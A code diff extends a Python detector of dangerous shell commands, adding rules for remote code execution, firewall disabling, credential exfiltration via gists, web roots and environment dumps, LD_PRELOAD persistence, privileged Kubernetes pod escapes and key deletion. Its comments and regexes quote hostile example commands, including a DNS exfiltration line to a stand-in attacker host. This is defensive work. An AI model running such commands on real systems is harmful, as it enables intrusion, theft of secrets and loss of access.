@@ -400,7 +400,17 @@ def rule_remote_code(cmd: Command, ctx: Context) -> Finding | None:
     setup = " ".join(a for a in cmd.args if re.match(r"-[rM]", a))  # `ruby -ropen-uri`, `perl -MLWP::Simple`
     if code and FETCHES.search(setup + " " + code) and EVALUATES.search(code):
         return finding("remote_code_execution", f"{name} fetches code from the network and runs it", cmd.text)
+    if code and RUNS_FETCHED_OUTPUT.search(code):
+        return finding("remote_code_execution", f"{name} runs what a download prints as a command", cmd.text)
     return None
+
+
+# A command run from the output of a downloader: Lua's `os.execute(io.popen("curl URL"):read("*a"))`,
+# `system(`curl URL`)`, `eval(qx{wget -qO- URL})`.
+RUNS_FETCHED_OUTPUT = re.compile(
+    r"\b(execute|system|exec|eval|load|loadstring)\s*\(\s*(io\.popen|popen|os\.popen|qx|%x|`)\s*[({]?\s*[\"'`]?\s*"
+    r"(curl|wget|fetch)\b"
+)
 
 
 def remote_reads_stdin(cmd: Command) -> bool:
@@ -534,11 +544,15 @@ def rule_permissions(cmd: Command, ctx: Context) -> Finding | None:
     ops = operands(cmd.args, frozenset({"-m", "-x", "-M", "-X", "--modify", "--remove"}))
     mode = ops[0] if ops and name == "chmod" else ""
     targets = ops[1:] if name in ("chmod", "chown", "chgrp") else ops
+    if name == "chmod":  # a mode may look like an option: `chmod -s FILE`, `chmod -x FILE`
+        mode, targets = system.chmod_mode(cmd.args)
     for target in targets:
         if name == "chmod" and paths.is_auth_file(target, cmd.cwd) and mode_exposes_secret(mode, target):
             return finding("auth_tampering", f"chmod {mode} exposes {target}", cmd.text)
         if name == "chmod" and mode_sets_id(mode) and setuid_matters(target) and not paths.needs_setuid(target):
             return finding("system_permissions", f"makes {target} setuid/setgid", cmd.text)
+        if name == "chmod" and paths.is_root_socket(target) and mode_is_dangerous(mode) and mode not in ("000", "0000"):
+            return finding("privilege_escalation", f"chmod {mode} lets every user drive {target}: root", cmd.text)
         if name == "chmod" and paths.needs_setuid(target) and mode_clears_setuid(mode):
             what = target.rsplit("/", 1)[-1]
             return finding(
@@ -676,7 +690,8 @@ def rule_history_logs(cmd: Command, ctx: Context) -> Finding | None:
         if paths.is_history_file(target):
             return finding("history_log_wipe", f"erases the shell history {target}", cmd.text)
         log = paths.log_target(target, cmd.cwd)
-        if log and (log != paths.LOG_DIR or recursive or target.endswith("*") or name == "truncate"):
+        every = target.endswith("*") or target.rpartition("/")[2] in paths.CURRENT_LOG_GLOBS
+        if log and (log != paths.LOG_DIR or recursive or every or name == "truncate"):
             return finding("history_log_wipe", f"erases {log}", cmd.text)
     if name == "find":
         spec = parse_find(cmd.words)
@@ -696,7 +711,20 @@ def rule_history_logs(cmd: Command, ctx: Context) -> Finding | None:
 
 
 @rule(
-    names={*WRITERS, "nft", "ufw", "systemctl", "service", "setenforce", "aa-teardown", "apparmor_teardown", "netsh"},
+    names={
+        *WRITERS,
+        "nft",
+        "ufw",
+        "systemctl",
+        "service",
+        "setenforce",
+        "aa-teardown",
+        "apparmor_teardown",
+        "netsh",
+        "pfctl",
+        "defaults",
+        "socketfilterfw",
+    },  # fmt: skip
     patterns=(IPTABLES,),
     redirects=True,
 )
@@ -717,6 +745,9 @@ def rule_firewall(cmd: Command, ctx: Context) -> Finding | None:
         return finding("firewall_disable", "unloads every AppArmor profile", cmd.text)
     if name == "netsh" and "advfirewall" in cmd.args and "off" in [a.lower() for a in cmd.args]:
         return finding("firewall_disable", "turns the Windows firewall off", cmd.text)
+    reason = firewall_opened(cmd)
+    if reason:
+        return finding("firewall_disable", reason, cmd.text)
     if any(t == "/etc/selinux/config" for t, _ in writes(cmd)):
         content = " ".join(cmd.words) + (written_text(cmd) or "")
         if re.search(r"SELINUX=(disabled|permissive)", content):
@@ -724,7 +755,29 @@ def rule_firewall(cmd: Command, ctx: Context) -> Finding | None:
     return None
 
 
-SOCKET_CODE = re.compile(r"socket|fsockopen|TCPSocket|IO::Socket|/inet/", re.I)
+MACOS_FIREWALL = re.compile(r"com\.apple\.alf(\.plist)?$")
+IPTABLES_MATCHES = frozenset({"-s", "--source", "-d", "--destination", "-i", "--in-interface", "-p", "--protocol",
+                              "-m", "--match", "--dport", "--sport", "-o", "--out-interface"})  # fmt: skip
+
+
+def firewall_opened(cmd: Command) -> str | None:
+    """The packet filter switched off (`pfctl -d`, macOS's application firewall set to 0) or every packet
+    accepted ahead of the rules (`iptables -I INPUT -j ACCEPT` with no match)."""
+    name, args = cmd.name, cmd.args
+    if name == "pfctl" and "d" in short_flags(args) and "-s" not in args:
+        return "pfctl -d turns the packet filter off"
+    macos_firewall = name == "defaults" and args[:1] == ["write"] and len(args) > 3 and MACOS_FIREWALL.search(args[1])
+    if macos_firewall and args[2] == "globalstate" and args[-1] == "0":
+        return "turns the macOS application firewall off"
+    if program(name) == "socketfilterfw" and option_value(args, "--setglobalstate") == "off":
+        return "turns the macOS application firewall off"
+    inserted = IPTABLES.fullmatch(name) and option_value(args, "-I", "--insert") in ("INPUT", "FORWARD")
+    if inserted and option_value(args, "-j", "--jump") == "ACCEPT" and not IPTABLES_MATCHES & set(args):
+        return "accepts every packet ahead of the firewall's rules"
+    return None
+
+
+SOCKET_CODE = re.compile(r"socket|fsockopen|TCPSocket|IO::Socket|/inet/|\bnet\b.*\.(connect|createConnection)\(", re.I)
 SHELL_CODE = re.compile(
     r"/bin/(ba|z|da)?sh|subprocess|pty\.spawn|dup2|\bexec\b|shell_exec|proc_open|popen|spawn"
     r"|getline|system\s*\("
@@ -779,6 +832,10 @@ def sent_paths(cmd: Command) -> list[str]:
 
 # Programs that reach another host with what they are given: a lookup's name travels to a DNS server
 # (`dig $(base64 key).evil.example`), an upload's file to a bucket.
+# An environment variable that holds a secret by its name: `$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`.
+SECRET_VARIABLE = re.compile(
+    r"\$\{?([A-Z0-9_]*(SECRET|TOKEN|PASSWORD|PASSWD|PRIVATE_KEY|API_KEY|ACCESS_KEY)[A-Z0-9_]*)"
+)
 LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois"})
 BUCKET_COPIERS = {
     "aws": ("s3", ("cp", "mv", "sync")),
@@ -794,7 +851,9 @@ NETWORK_CODE = re.compile(
 )
 
 
-EXFILTRATION_CHANNELS = frozenset({*NETWORK_SENDERS, *LOOKUPS, *BUCKET_COPIERS, "ssh", "openssl", "git"})
+EXFILTRATION_CHANNELS = frozenset(
+    {*NETWORK_SENDERS, *LOOKUPS, *BUCKET_COPIERS, "ssh", "openssl", "git", "cp", "install", "ln", "mv", "gh", "glab"}
+)
 
 
 @rule(names={*EXFILTRATION_CHANNELS, *INTERPRETERS}, patterns=(PYTHON,))
@@ -806,10 +865,20 @@ def rule_exfiltration(cmd: Command, ctx: Context) -> Finding | None:
         return code_sends_secret(cmd)
     if name == "git":
         return pushes_secret(cmd, ctx)
+    if name in ("cp", "install", "ln", "mv"):
+        return published_secret(cmd)
+    if name in ("gh", "glab"):
+        return gist_of_secret(cmd)
     if name == "openssl" and cmd.args[:1] != ["s_client"]:
         return None
     if input_of(cmd).kind == "secret" and name not in LOOKUPS and name not in BUCKET_COPIERS:
         return finding("credential_exfiltration", f"sends credentials or the environment through {name}", cmd.text)
+    if name in REVERSE_CLIENTS and cmd.upstream is not None and cmd.upstream.name in ("echo", "printf"):
+        variable = SECRET_VARIABLE.search(cmd.upstream.text)
+        if variable:
+            return finding(
+                "credential_exfiltration", f"sends ${variable.group(1)} to another host through {name}", cmd.text
+            )
     if name in ("ssh", "openssl"):
         return None
     if any(SECRET in a for a in cmd.args):
@@ -825,6 +894,31 @@ def rule_exfiltration(cmd: Command, ctx: Context) -> Finding | None:
     if name in ("scp", "rsync", "sftp") and (not remote or not any(home_or_system(c) for c in credentials)):
         return None  # a local copy, or a project's .env deployed to its server
     return finding("credential_exfiltration", f"{name} sends {credentials[0]} to another host", cmd.text)
+
+
+WEB_ROOTS = re.compile(
+    r"^/(var/www|srv/www|srv/http|usr/share/nginx/html|var/lib/nginx/html|srv/public)(/|$)|/public_html(/|$)"
+)
+
+
+def published_secret(cmd: Command) -> Finding | None:
+    """A private key or credentials copied into a web server's document root: anyone can download it."""
+    ops = operands(cmd.args, frozenset({"-t", "--target-directory", "-m", "--mode", "-o", "-g", "-S"}))
+    target = option_value(cmd.args, "-t", "--target-directory") or (ops[-1] if len(ops) >= 2 else "")
+    sources = ops if option_value(cmd.args, "-t", "--target-directory") else ops[:-1]
+    secret = next((s for s in sources if paths.is_credential(s) or paths.private_path(s, cmd.cwd)), None)
+    if secret and WEB_ROOTS.search(paths.normalize(target, cmd.cwd) or target):
+        return finding("credential_exfiltration", f"puts {secret} where the web server hands it to anyone", cmd.text)
+    return None
+
+
+def gist_of_secret(cmd: Command) -> Finding | None:
+    """`gh gist create ~/.ssh/id_rsa`, `glab snippet create ...`: a credential uploaded to a public service."""
+    ops = operands(cmd.args, frozenset({"-d", "--desc", "-f", "--filename", "-t", "--title", "-R", "--repo"}))
+    if ops[:2] not in (["gist", "create"], ["snippet", "create"], ["gist", "new"]):
+        return None
+    secret = next((o for o in ops[2:] if paths.is_credential(o) or paths.private_path(o, cmd.cwd)), None)
+    return finding("credential_exfiltration", f"{cmd.name} uploads {secret}", cmd.text) if secret else None
 
 
 def home_or_system(path: str) -> bool:
@@ -868,7 +962,18 @@ def code_sends_secret(cmd: Command) -> Finding | None:
     secret = next((a or b for a, b in literals if paths.is_credential(a or b)), None)
     if secret:
         return finding("credential_exfiltration", f"{cmd.name} code sends {secret} over the network", cmd.text)
+    if WHOLE_ENVIRONMENT.search(code):
+        return finding(
+            "credential_exfiltration", f"{cmd.name} code sends the whole environment over the network", cmd.text
+        )
     return None
+
+
+# The whole environment taken as data (its tokens and keys with it), not one variable looked up.
+WHOLE_ENVIRONMENT = re.compile(
+    r"dict\(\s*os\.environ\s*\)|os\.environ\.(items|copy)\(|str\(\s*os\.environ\s*\)|dumps\(\s*(dict\()?os\.environ"
+    r"|JSON\.stringify\(\s*process\.env\s*\)|ENV\.to_h|%ENV\b"
+)
 
 
 def pushes_secret(cmd: Command, ctx: Context) -> Finding | None:
@@ -976,6 +1081,12 @@ COMMON_COMMANDS = frozenset(
 )
 
 
+PRELOAD_SET = re.compile(
+    r"^\s*(export|setenv|declare\s+-x)\s+LD_PRELOAD[=\s]\s*['\"]?[^\s'\"]|^\s*LD_PRELOAD=['\"]?[^\s'\";]+['\"]?\s*(;|$)"
+)
+STARTUP_PREFIXES = frozenset({"nohup", "setsid", "exec", "(", "{", "sudo", "command", "builtin", "disown"})
+
+
 def suspicious_startup(line: str, ctx: Context) -> str | None:
     """Why a command planted to run later is malicious, or None. Fetching something (`alias weather='curl
     wttr.in'`, a health-check ping in cron) is not; sending local data out, running code from the network
@@ -988,7 +1099,9 @@ def suspicious_startup(line: str, ctx: Context) -> str | None:
         return booby_trap
     if sends_local_data(line):
         return "sends local data over the network every time it runs"
-    first = line.strip().split()[0] if line.strip() else ""
+    if PRELOAD_SET.search(line):
+        return "preloads a library into every program the shell starts"
+    first = next((w for w in re.split(r"[\s(){};&]+", line) if w and w not in STARTUP_PREFIXES), "")
     if paths.is_temporary_executable(first):
         return f"runs {first} from a temporary or hidden location"
     if re.match(r"\s*alias\s+(sudo|su|ssh|passwd)=", line):
@@ -1027,8 +1140,22 @@ def planted_definitions(line: str) -> list[tuple[str, str]]:
 # ------------------------------------------------------------------ rules added with the v3 corpus
 
 
-@rule(names={*REMOVERS, *WRITERS, "find"}, redirects=True)
+def gpg_secret_deletion(cmd: Command) -> Finding | None:
+    """`gpg --batch --yes --delete-secret-keys ...`: without `--yes` gpg asks for each key; with it they go."""
+    flags = long_flags(cmd.args)
+    deleting = {"--delete-secret-keys", "--delete-secret-key", "--delete-secret-and-public-keys",
+                "--delete-secret-and-public-key"} & flags  # fmt: skip
+    if deleting and "--yes" in flags:
+        return finding(
+            "secret_destruction", "deletes GPG secret keys without asking: they cannot be recovered", cmd.text
+        )
+    return None
+
+
+@rule(names={*REMOVERS, *WRITERS, "find", "gpg", "gpg2"}, redirects=True)
 def rule_secret_destruction(cmd: Command, ctx: Context) -> Finding | None:
+    if cmd.name in ("gpg", "gpg2"):
+        return gpg_secret_deletion(cmd)
     erased = emptied(cmd)
     # (path, whether the whole tree under it goes, how the reason names it)
     targets = [(t, is_recursive(cmd), f"deletes {t}") for t in removes(cmd)]
@@ -1099,8 +1226,10 @@ def rule_crontab_wipe(cmd: Command, ctx: Context) -> Finding | None:
     return None
 
 
-@rule(names={*containers.ENGINES, "chroot", "mount"}, contained=True)
+@rule(names={*containers.ENGINES, "chroot", "mount", "kubectl"}, contained=True)
 def rule_container_escape(cmd: Command, ctx: Context) -> Finding | None:
+    if cmd.name == "kubectl":
+        return pod_escape(cmd)
     box = containers.parse_run(cmd.words) if cmd.name in containers.ENGINES else None
     if box is not None:
         root = box.root_writable()
@@ -1122,6 +1251,24 @@ def rule_container_escape(cmd: Command, ctx: Context) -> Finding | None:
             )
         return None
     return escape_from_inside(cmd)
+
+
+HOST_ACCESS = re.compile(r"\"(hostPID|privileged)\"\s*:\s*true|\"hostPath\"\s*:\s*\{\s*\"path\"\s*:\s*\"/\"")
+INTO_HOST = re.compile(r"\"(nsenter|chroot)\"")
+
+
+def pod_escape(cmd: Command) -> Finding | None:
+    """`kubectl run --overrides='{..."hostPID":true, "privileged":true, ...["nsenter","-t","1",...]}'`: a pod
+    given the node's processes or disk that enters them is a root shell on the node."""
+    ops = operands(cmd.args)
+    overrides = option_value(cmd.args, "--overrides") or ""
+    if ops[:1] not in (["run"], ["debug"]) or not HOST_ACCESS.search(overrides):
+        return None
+    if INTO_HOST.search(overrides) or "nsenter" in cmd.args or "chroot" in cmd.args:
+        return finding(
+            "container_escape", "runs a privileged pod that enters the node: a root shell on the host", cmd.text
+        )
+    return None
 
 
 def escape_from_inside(cmd: Command) -> Finding | None:
@@ -1168,7 +1315,17 @@ def rule_package_removal(cmd: Command, ctx: Context) -> Finding | None:
             f"{cmd.name} is told to remove essential packages (--allow-remove-essential / --force-remove-essential)",
             cmd.text,
         )
+    access = [p for p in removal.packages if re.split(r"[:=]", p, maxsplit=1)[0] in ACCESS_PACKAGES]
+    if access:
+        unattended = bool(UNATTENDED & set(cmd.args)) or "y" in short_flags(cmd.args) or cmd.name in ("apk", "rpm")
+        judge = finding if unattended else warning
+        return judge("remote_lockout", f"{cmd.name} removes {access[0]}: how you log in or become root", cmd.text)
     return None
+
+
+# Removing these cuts you off: no sudo to repair it, no ssh server to come back in through.
+ACCESS_PACKAGES = frozenset({"sudo", "sudo-ldap", "doas", "opendoas", "openssh-server", "openssh", "ssh"})
+UNATTENDED = frozenset({"--yes", "--assume-yes", "--assumeyes", "--noconfirm", "--non-interactive"})
 
 
 # ------------------------------------------------------------------ rules added with the v4 corpus (system.py)
@@ -1180,7 +1337,21 @@ rule_lockout = rule(
     redirects=True,
 )(system.judge_lockout)  # fmt: skip
 rule_exhaustion = rule(
-    names={"yes", "cat", "pv", "tee", "fallocate", "dd", "head", *system.BUFFERING, "stress", "stress-ng"},
+    names={
+        "yes",
+        "cat",
+        "pv",
+        "tee",
+        "fallocate",
+        "dd",
+        "head",
+        *system.BUFFERING,
+        "stress",
+        "stress-ng",
+        "seq",
+        "openssl",
+        "xargs",
+    },  # fmt: skip
     redirects=True,
 )(system.judge_exhaustion)
 rule_breakage = rule(
